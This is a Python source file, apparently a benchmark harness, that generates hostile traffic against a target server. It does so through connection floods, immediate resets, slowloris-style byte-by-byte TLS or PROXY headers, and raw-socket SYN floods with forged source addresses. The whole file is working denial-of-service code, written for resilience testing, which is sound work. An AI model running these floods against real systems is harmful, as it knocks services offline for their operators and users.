"""Hostile clients, one kind for each process, paced and bounded.

    python bench/lib/attackers.py flood --to 127.0.0.1:80 --from 127.0.0.66 --rate 5000

The program prints a line when it attacks at full strength, and one JSON object of counts at its
end. It ends with its standard input, or after --seconds. It uses only the standard library. Only
half-open connections need root (raw sockets).
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import ipaddress
import json
import os
import random
import resource
import select
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

TICK_S = 0.002  # time between two turns; events due within it come together
LATE_S = 0.1  # a pace that is later than this skips events
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
HEADER = b"PROXY TCP4 192.0.2.1 192.0.2.2 12345 443\r\n"
RESET = struct.pack("ii", 1, 0)  # SO_LINGER: closed by a reset


@dataclass
class Pace:
    """A rate of events."""

    per_second: float
    since: float = field(default_factory=time.monotonic)

    def due(self) -> int:
        now = time.monotonic()
        self.since = max(self.since, now - LATE_S)
        count = int((now - self.since) * self.per_second)
        self.since += count / self.per_second
        return count


class Clients:
    """Sockets that were opened, and counts of how they ended."""

    def __init__(self, to: tuple[str, int], sources: Sequence[str]) -> None:
        self.to, self.sources = to, sources
        self.counts: Counter[str] = Counter()
        self.open: dict[int, socket.socket] = {}
        self.poller = select.epoll()

    def dial(self) -> socket.socket | None:
        """Begins to connect from the next source address."""
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        try:
            sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
            sock.bind((self.sources[self.counts["begun"] % len(self.sources)], 0))
            error = sock.connect_ex(self.to)
        except OSError as failed:
            error = failed.errno or errno.EIO
        self.counts["begun"] += 1
        if error in (0, errno.EINPROGRESS):
            return sock
        self.counts[errno.errorcode.get(error, "error")] += 1
        sock.close()
        return None

    def hold(self, sock: socket.socket) -> None:
        self.open[sock.fileno()] = sock
        self.poller.register(sock, select.EPOLLIN | select.EPOLLRDHUP)

    def drop(self, sock: socket.socket, *, abort: bool = False) -> None:
        if abort:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        self.open.pop(sock.fileno(), None)
        sock.close()

    def reap(self) -> None:
        """Closes connections that the other side has ended."""
        for fd, _ in self.poller.poll(0):
            sock = self.open[fd]
            try:
                ended = not sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                ended = True
            if ended:
                self.counts["ended"] += 1
                self.drop(sock)


def flood(options: argparse.Namespace) -> Callable[[], bool]:
    """Opens new connections at the given rate, and holds those that are not ended."""
    clients, pace = Clients(options.to, options.sources), Pace(options.rate)
    options.counts = clients.counts

    def turn() -> bool:
        for _ in range(pace.due()):
            sock = clients.dial()
            if sock is not None:
                clients.hold(sock)
            while len(clients.open) > options.connections:
                clients.drop(next(iter(clients.open.values())), abort=True)
        clients.reap()
        clients.counts["held"] = len(clients.open)
        return True

    return turn


def resets(options: argparse.Namespace) -> Callable[[], bool]:
    """Opens connections and resets each at once."""
    clients, pace = Clients(options.to, options.sources), Pace(options.rate)
    options.counts = clients.counts

    def turn() -> bool:
        for _ in range(pace.due()):
            sock = clients.dial()
            if sock is not None:
                with contextlib.suppress(OSError):
                    sock.send(b"GET / HTTP/1.1\r\n")
                clients.drop(sock, abort=True)
        return True

    return turn


def slow(options: argparse.Namespace) -> Callable[[], bool]:
    """Holds connections that send a byte now and then. A connection that ended is opened again."""
    clients = Clients(options.to, options.sources)
    options.counts = clients.counts
    words = HELLO if options.say == "hello" else HEADER
    said: dict[int, int] = {}
    waiting: list[int] = []
    pace = Pace(options.connections / options.every)

    def speak() -> None:
        if not waiting:
            waiting.extend(clients.open)
        fd = waiting.pop()
        sock = clients.open.get(fd)
        if sock is None:
            return
        at = said.get(fd, 0)
        if at + 1 < len(words):
            with contextlib.suppress(OSError):
                sock.send(words[at : at + 1])
                clients.counts["said"] += 1
        said[fd] = at + 1

    def turn() -> bool:
        for _ in range(min(200, options.connections - len(clients.open))):
            sock = clients.dial()
            if sock is not None:
                clients.hold(sock)
                said[sock.fileno()] = 0
        for _ in range(pace.due()):
            if clients.open:
                speak()
        clients.reap()
        clients.counts["held"] = len(clients.open)
        return len(clients.open) >= options.connections * 9 // 10

    return turn


def _sum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, port: int, to: tuple[str, int]) -> bytes:
    """Returns a SYN packet whose source address may be forged."""
    target = socket.inet_aton(to[0])
    tcp = struct.pack("!HHIIBBHHH", port, to[1], random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
    check = _sum(source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target
    )
    return head + tcp[:16] + struct.pack("!H", check) + tcp[18:]


def half_open(options: argparse.Namespace) -> Callable[[], bool]:
    """Sends SYNs from addresses where nobody answers."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pace = Pace(options.rate)
    options.counts = counts = Counter[str]()
    network = ipaddress.IPv4Network(options.spoof)
    first, size = int(network.network_address), network.num_addresses

    def turn() -> bool:
        for _ in range(pace.due()):
            # The lower half of the network may be in use.
            address = first + size // 2 + random.randrange(size // 2 - 1)
            packet = syn(address.to_bytes(4, "big"), random.randrange(1024, 65535), options.to)
            try:
                raw.sendto(packet, (options.to[0], 0))
                counts["sent"] += 1
            except OSError as error:
                counts[errno.errorcode.get(error.errno or 0, "error")] += 1
        return True

    return turn


KINDS = {"flood": flood, "resets": resets, "slow": slow, "half-open": half_open}


def _address(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def main(argv: Sequence[str]) -> int:
    """Attacks until standard input ends. Returns the exit status."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--to", type=_address, required=True, metavar="HOST:PORT", help="target")
    parser.add_argument("--from", dest="sources", nargs="+", default=["127.0.0.66"], help="sources")
    parser.add_argument("--rate", type=float, default=1000, help="connections or SYNs a second")
    parser.add_argument(
        "--connections", type=int, default=1000, help="connections held at one time"
    )
    parser.add_argument("--every", type=float, default=1, help="slow: seconds between two bytes")
    parser.add_argument(
        "--say", choices=("hello", "proxy"), default="hello", help="slow: what is sent"
    )
    parser.add_argument(
        "--spoof", default="10.0.0.0/24", help="half-open: network of source addresses"
    )
    parser.add_argument("--tick", type=float, default=TICK_S, help="seconds between two turns")
    parser.add_argument("--seconds", type=float, default=600, help="maximum duration")
    options = parser.parse_args(argv)
    files = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    turn = KINDS[options.kind](options)
    end, told = time.monotonic() + options.seconds, False
    while time.monotonic() < end:
        if turn() and not told:
            print("attacks", flush=True)
            told = True
        if select.select([sys.stdin], [], [], options.tick)[0] and not os.read(0, 4096):
            break
    print(json.dumps(options.counts))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
